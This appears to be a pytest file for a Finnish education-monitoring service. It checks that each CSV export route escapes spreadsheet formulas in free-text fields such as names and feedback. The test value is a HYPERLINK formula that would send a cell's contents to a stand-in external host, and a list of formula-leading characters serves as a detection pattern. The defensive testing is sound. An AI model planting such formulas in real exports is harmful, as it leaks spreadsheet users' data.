"""Every CSV route writes through `models.rules.csv_writer`: a formula typed into any free-text value reaches the
official's spreadsheet as text (issue 10, item 2). A new `.csv` route fails the first test until it is added here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from datetime import UTC, date, datetime

import httpx
import pytest
from tortoise.transactions import in_transaction

from api.app import create_app
from models.organisation import Organisation
from models.services import hoks as hoks_service
from models.services.tyopaikkakysely import generate_tyopaikkakysely
from models.settings import Settings
from models.user import RoleName
from tests.factories import koski_doc, provider, user_token
from tests.reports.builders import link
from tests.services.conftest import Setting, jakso, plan, store
from tests.valpas.builders import days, henkilo_doc, kunta, tallenna, years_ago

pytestmark = pytest.mark.usefixtures("db")

FORMULA = '=HYPERLINK("//e.x?"&B2,"A")'  # short enough for a tutkinto code column
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Request = Callable[[httpx.AsyncClient], Awaitable[httpx.Response]]


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def _tyopaikkakysely(client: httpx.AsyncClient) -> httpx.Response:
    kt, ol = await provider()
    doc = koski_doc(koulutustoimija=kt.oid, oppilaitos=ol.oid)
    await store(doc)
    s = Setting(kt, ol, doc["henkilö"]["oid"], doc["oid"])
    tapa = jakso("j1", keskeytymisajanjaksot=(), tyopaikan_nimi=FORMULA)
    await hoks_service.create_hoks(plan(s, tapa), s.writer(), date(2021, 9, 1))
    async with in_transaction():
        await generate_tyopaikkakysely(date(2022, 1, 3), datetime(2022, 1, 3, 9, tzinfo=UTC))
    token = await user_token(kt, RoleName.READ)
    return await client.get("/tyopaikkakysely.csv", params={"koulutustoimija": kt.oid}, headers=_auth(token))


async def _automaattinen_tarkistus(client: httpx.AsyncClient) -> httpx.Response:
    kt, ol = await provider()
    token = await user_token(await kunta("091"), RoleName.KUNTA_VALVOJA)
    tilat = [(years_ago(9, 8, 1), "lasna"), (days(-60), "eronnut")]
    await tallenna(henkilo_doc(ol, kt, syntymaaika=years_ago(16), sukunimi=FORMULA, etunimet="+358 40 1", tilat=tilat))
    return await client.get("/valpas/automaattinen-tarkistus.csv", params={"kunta": "091"}, headers=_auth(token))


async def _tietojen_laatu(client: httpx.AsyncClient) -> httpx.Response:
    kt, ol = await provider()
    known_by_oid = henkilo_doc(ol, kt, sukunimi=FORMULA, syntymaaika=years_ago(16))
    del known_by_oid["henkilö"]["syntymäaika"]  # flagged through the Koski path: syntymaaika_puuttuu
    await tallenna(known_by_oid)
    token = await user_token(ol, RoleName.VALVOJA_HAKEUTUMINEN)
    return await client.get("/valpas/tietojen-laatu.csv", params={"organisaatio": ol.oid}, headers=_auth(token))


async def _suorittamisvalvonta(client: httpx.AsyncClient) -> httpx.Response:
    kt, ol = await provider()
    await tallenna(henkilo_doc(ol, kt, sukunimi=FORMULA, syntymaaika=years_ago(16), tyyppi="lukiokoulutus"))
    token = await user_token(ol, RoleName.VALVOJA_SUORITTAMINEN)
    return await client.get("/valpas/suorittamisvalvonta.csv", params={"oppilaitos": ol.oid}, headers=_auth(token))


async def _maksuttomuus(client: httpx.AsyncClient) -> httpx.Response:
    kt, ol = await provider()
    await tallenna(henkilo_doc(ol, kt, etunimet=FORMULA, syntymaaika=years_ago(17), tyyppi="ammatillinenkoulutus"))
    token = await user_token(ol, RoleName.VALVOJA_MAKSUTTOMUUS)
    return await client.get("/valpas/maksuttomuus.csv", params={"oppilaitos": ol.oid}, headers=_auth(token))


async def _answers(n: int, tutkinto: str = "351301") -> str:
    kt, ol = await provider()
    for i in range(n):
        await link(
            kt,
            ol,
            date(2021, 9, 1 + i),
            lahetyspvm=date(2021, 9, 1 + i),
            tutkinto=tutkinto,
            vastaukset={"vastaanotto": 4, "suosittelu": 5, "vapaa_palaute": FORMULA},
        )
    return kt.oid


async def _vastaukset(client: httpx.AsyncClient) -> httpx.Response:
    kt = await _answers(1)
    token = await user_token(await Organisation.get(oid=kt), RoleName.ADMIN)
    return await client.get("/raportit/vastaukset.csv", params={"koulutustoimija": kt}, headers=_auth(token))


async def _tilastot(client: httpx.AsyncClient) -> httpx.Response:
    await _answers(5, tutkinto=FORMULA)
    params = {"alku": "2021-08-01", "loppu": "2022-07-31", "ryhmittely": "tutkinto"}
    return await client.get("/raportit/tilastot.csv", params=params)


async def _hakeutumisvalvonta(client: httpx.AsyncClient) -> httpx.Response:
    kt, ol = await provider()
    await tallenna(henkilo_doc(ol, kt, sukunimi=FORMULA, syntymaaika=years_ago(16), tyyppi="tuva"))
    token = await user_token(ol, RoleName.VALVOJA_HAKEUTUMINEN)
    return await client.get("/valpas/hakeutumisvalvonta.csv", params={"oppilaitos": ol.oid}, headers=_auth(token))


ROUTES: dict[str, Request] = {
    "/tyopaikkakysely.csv": _tyopaikkakysely,
    "/valpas/automaattinen-tarkistus.csv": _automaattinen_tarkistus,
    "/valpas/tietojen-laatu.csv": _tietojen_laatu,
    "/valpas/suorittamisvalvonta.csv": _suorittamisvalvonta,
    "/valpas/maksuttomuus.csv": _maksuttomuus,
    "/valpas/hakeutumisvalvonta.csv": _hakeutumisvalvonta,
    "/raportit/vastaukset.csv": _vastaukset,
    "/raportit/tilastot.csv": _tilastot,
}


def test_every_csv_route_is_fed_a_formula_here() -> None:
    app = create_app(Settings(database_url="unused://"), manage_db=False)
    paths = {getattr(r, "path", "") for r in app.routes}
    assert {p for p in paths if p.endswith(".csv")} == set(ROUTES)


@pytest.mark.parametrize("path", list(ROUTES))
async def test_a_formula_reaches_the_spreadsheet_as_text(client: httpx.AsyncClient, path: str) -> None:
    response = await ROUTES[path](client)
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{FORMULA}" in cells, rows
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], rows
